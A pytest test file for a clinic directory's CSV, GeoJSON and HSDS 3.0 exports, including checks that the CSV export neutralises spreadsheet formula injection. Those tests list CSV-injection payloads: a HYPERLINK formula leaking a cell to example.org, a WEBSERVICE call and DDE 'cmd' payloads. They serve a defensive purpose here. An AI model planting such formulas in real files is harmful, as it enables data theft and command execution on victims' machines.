"""Exports: CSV (importable again), GeoJSON, and Open Referral HSDS 3.0 with the fields HSDS requires."""

import csv
import datetime
import io
import json

import pytest

from directory.exporting import HSDS_TABLES, clinics_geojson, hsds_json_chunks, write_clinics_csv
from directory.importing import import_clinics_csv
from directory.models import Clinic, OpeningHours
from tests.directory.admin_world import FAST_HASHERS, client_for, make_user
from tests.factories import ClinicFactory

pytestmark = pytest.mark.django_db
VERIFIED_ON = datetime.date.today() - datetime.timedelta(days=40)  # within the 12 months a verification lasts

# From the HSDS 3.0 JSON schemas (openreferral/specification, schema/*.json): each table's
# "required" fields, plus "tabular_required" (the links) since this export is tabular.
HSDS_REQUIRED = {
    "organization": {"id", "name", "description"},
    "service": {"id", "name", "status", "organization_id"},
    "location": {"id", "location_type"},
    "address": {"id", "address_1", "city", "state_province", "postal_code", "country", "address_type"},
    "phone": {"id", "number"},
    "service_at_location": {"id", "service_id", "location_id"},
    "language": {"id"},
    "schedule": {"id"},
    # HSDS 3.1's service_capacity (3.0 has no such table): required plus tabular_required.
    "service_capacity": {"id", "unit", "available", "updated", "unit_id", "service_id"},
}
HSDS_ENUMS = {
    ("service", "status"): {"active", "inactive", "defunct", "temporarily closed"},
    ("location", "location_type"): {"physical", "postal", "virtual"},
    ("address", "address_type"): {"physical", "postal", "virtual"},
    ("schedule", "freq"): {"WEEKLY", "MONTHLY"},
}
# Every field this export writes must be an HSDS 3.0 field of its table.
HSDS_FIELDS = {
    "organization": {
        "id",
        "name",
        "alternate_name",
        "description",
        "email",
        "website",
        "year_incorporated",
        "legal_status",
        "logo",
        "uri",
        "parent_organization_id",
    },
    "service": {
        "id",
        "organization_id",
        "program_id",
        "name",
        "alternate_name",
        "description",
        "url",
        "email",
        "status",
        "interpretation_services",
        "application_process",
        "fees_description",
        "accreditations",
        "eligibility_description",
        "minimum_age",
        "maximum_age",
        "assured_date",
        "assurer_email",
        "alert",
    },
    "location": {
        "id",
        "location_type",
        "url",
        "organization_id",
        "name",
        "alternate_name",
        "description",
        "transportation",
        "latitude",
        "longitude",
        "external_identifier",
        "external_identifier_type",
    },
    "address": {
        "id",
        "location_id",
        "attention",
        "address_1",
        "address_2",
        "city",
        "region",
        "state_province",
        "postal_code",
        "country",
        "address_type",
    },
    "phone": {
        "id",
        "location_id",
        "service_id",
        "organization_id",
        "contact_id",
        "service_at_location_id",
        "number",
        "extension",
        "type",
        "description",
    },
    "service_at_location": {"id", "service_id", "location_id", "description"},
    "language": {"id", "service_id", "location_id", "phone_id", "name", "code", "note"},
    "schedule": {
        "id",
        "service_id",
        "location_id",
        "service_at_location_id",
        "valid_from",
        "valid_to",
        "dtstart",
        "timezone",
        "until",
        "count",
        "wkst",
        "freq",
        "interval",
        "byday",
        "byweekno",
        "bymonthday",
        "byyearday",
        "description",
        "opens_at",
        "closes_at",
        "schedule_link",
        "attending_type",
        "notes",
    },
    "service_capacity": {
        "id",
        "service_id",
        "unit",
        "unit_id",
        "available",
        "maximum",
        "description",
        "updated",
        "attributes",
        "metadata",
    },  # fmt: skip
}


@pytest.fixture
def clinics():
    full = ClinicFactory(
        name="Full Listing",
        slug="full",
        description="IV and IM ketamine.",
        email="hello@example.org",
        website="https://example.org",
        price_from=350,
        price_to=600,
        treatments=["iv-infusion"],
        conditions=["ptsd"],
        payment_options=["self-pay"],
        verified=True,
        verified_at=VERIFIED_ON,
    )
    full.languages.set(full.languages.model.objects.filter(code__in=["en", "es"]))
    OpeningHours.objects.create(clinic=full, weekday=0, opens=datetime.time(9), closes=datetime.time(17))
    bare = ClinicFactory(name="Bare Listing", slug="bare", street_address="", phone="", description="")
    hidden = ClinicFactory(name="Hidden Listing", slug="hidden", published=False)
    return full, bare, hidden


def hsds(queryset) -> dict:
    return json.loads("".join(hsds_json_chunks(queryset, base_url="https://clinics.example.org")))


def check_hsds(document: dict) -> None:
    assert document["hsds_version"] == "3.0"
    ids = {table: {record["id"] for record in document[table]} for table in HSDS_TABLES}
    for table, records in ((t, document[t]) for t in HSDS_TABLES):
        for record in records:
            assert HSDS_REQUIRED[table] <= set(record), (table, record)
            assert set(record) <= HSDS_FIELDS[table], (table, set(record) - HSDS_FIELDS[table])
            assert None not in record.values()
            for (enum_table, field), allowed in HSDS_ENUMS.items():
                if enum_table == table and field in record:
                    assert record[field] in allowed
        assert len(ids[table]) == len(records), f"ids of {table} are not unique"
    for link, table in [
        ("organization_id", "organization"),
        ("service_id", "service"),
        ("location_id", "location"),
        ("service_at_location_id", "service_at_location"),
    ]:
        for records in document.values():
            for record in records if isinstance(records, list) else []:
                if link in record:
                    assert record[link] in ids[table], (link, record)


def test_hsds_has_every_table_with_the_required_fields(clinics):
    document = hsds(Clinic.objects.all())
    check_hsds(document)
    assert len(document["organization"]) == 3
    assert len(document["address"]) == 2  # the bare listing has no street address
    assert len(document["phone"]) == 2
    assert {lang["code"] for lang in document["language"]} == {"en", "es"}
    service = next(s for s in document["service"] if s["name"] == "Ketamine therapy at Full Listing")
    assert service["fees_description"] == "Self-pay $350–$600 per session."
    assert service["assured_date"] == VERIFIED_ON.isoformat()
    assert service["url"] == "https://clinics.example.org/clinics/full/"
    # One Monday row per stretch of the coming year with one UTC offset (Atlanta: 3, DST in between).
    schedules = document["schedule"]
    assert {(s["byday"], s["freq"]) for s in schedules} == {("MO", "WEEKLY")}
    assert len(schedules) == 3
    assert {s["opens_at"][:5] for s in schedules} == {"09:00"}
    assert {s["opens_at"][5:] for s in schedules} == {"-05:00", "-04:00"}
    for schedule in schedules:
        assert schedule["valid_from"] <= schedule["valid_to"]


def test_hsds_ids_are_stable_between_exports(clinics):
    assert hsds(Clinic.objects.all())["organization"] == hsds(Clinic.objects.all())["organization"]


def test_hsds_api_lists_published_listings_only(clinics, client):
    response = client.get("/api/export/hsds/")
    assert response.status_code == 200 and response["Content-Type"] == "application/json"
    document = json.loads(b"".join(response.streaming_content))
    check_hsds(document)
    assert {org["name"] for org in document["organization"]} == {"Full Listing", "Bare Listing"}


def test_hsds_api_refuses_other_methods_with_json(client):
    response = client.post("/api/export/hsds/")
    assert response.status_code == 405 and "errors" in response.json()


def test_csv_export_imports_again_unchanged(clinics):
    out = io.StringIO()
    write_clinics_csv(Clinic.objects.with_lookups(), out)
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [row["slug"] for row in rows] == ["bare", "full", "hidden"]
    full = next(row for row in rows if row["slug"] == "full")
    assert (full["treatments"], full["languages"], full["verified"]) == ("iv-infusion", "en;es", "true")
    before = {c.slug: (c.name, c.latitude, c.price_to, c.published) for c in Clinic.objects.all()}
    history_before = Clinic.history.count()
    report = import_clinics_csv(file=io.BytesIO(out.getvalue().encode()))
    assert report.ok and sorted(report.unchanged) == ["bare", "full", "hidden"] and not report.updated
    assert {c.slug: (c.name, c.latitude, c.price_to, c.published) for c in Clinic.objects.all()} == before
    assert Clinic.history.count() == history_before  # nothing changed, nothing recorded


def test_csv_export_defuses_spreadsheet_formulas():
    ClinicFactory(name='=HYPERLINK("http://example.org")', slug="formula", phone="+1 404 555 0100")
    out = io.StringIO()
    write_clinics_csv(Clinic.objects.with_lookups(), out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    assert row["name"].startswith("'=") and row["phone"] == "+1 404 555 0100"


@pytest.mark.parametrize(
    "formula",
    [
        '-1+HYPERLINK("http://example.org/?leak="&A1)',
        '+(WEBSERVICE("http://example.org/"))',
        "+1+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "=1+1",
        "\t=1+1",
        "\r=1+1",
        "-2+3",
    ],
)
def test_csv_export_defuses_every_owasp_formula_start(formula):
    """Issue 13, finding 3: any cell starting with =, +, -, @, tab or CR is prefixed with a quote."""
    ClinicFactory(name=formula, slug="formula", description=formula, phone=formula[:30])
    out = io.StringIO()
    write_clinics_csv(Clinic.objects.with_lookups(), out)
    row = next(csv.DictReader(io.StringIO(out.getvalue())))
    for column in ("name", "description", "phone"):
        assert row[column].startswith("'") and row[column][1:] == getattr(Clinic.objects.get(), column)


@pytest.mark.parametrize("phone", ["+1 404 555 0100", "+1 (404) 555-0100", "+14045550100", "(404) 555-0100"])
def test_csv_export_keeps_phone_numbers_readable(phone):
    ClinicFactory(slug="phone", phone=phone)
    out = io.StringIO()
    write_clinics_csv(Clinic.objects.with_lookups(), out)
    assert next(csv.DictReader(io.StringIO(out.getvalue())))["phone"] == phone


def test_geojson_is_a_feature_collection_of_points(clinics):
    document = clinics_geojson(Clinic.objects.with_lookups().filter(slug="full"))
    (feature,) = document["features"]
    assert document["type"] == "FeatureCollection" and feature["type"] == "Feature"
    assert feature["geometry"] == {"type": "Point", "coordinates": [-84.3888, 33.7525]}
    assert feature["properties"]["slug"] == "full" and feature["properties"]["treatments"] == ["iv-infusion"]


@pytest.mark.parametrize(
    ("action", "content_type", "filename"),
    [
        ("export_csv", "text/csv; charset=utf-8", "clinics.csv"),
        ("export_geojson", "application/geo+json", "clinics.geojson"),
        ("export_hsds", "application/json", "clinics-hsds.json"),
    ],
)
def test_admin_export_actions_return_the_selected_clinics(clinics, settings, action, content_type, filename):
    settings.PASSWORD_HASHERS = FAST_HASHERS
    client = client_for(make_user("moderator", group="Site staff"))
    full, _, hidden = clinics
    response = client.post("/admin/directory/clinic/", {"action": action, "_selected_action": [full.pk, hidden.pk]})
    assert response.status_code == 200
    assert response["Content-Type"] == content_type
    assert filename in response["Content-Disposition"]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert b"Full Listing" in body and b"Hidden Listing" in body and b"Bare Listing" not in body
    if action == "export_hsds":
        check_hsds(json.loads(body))
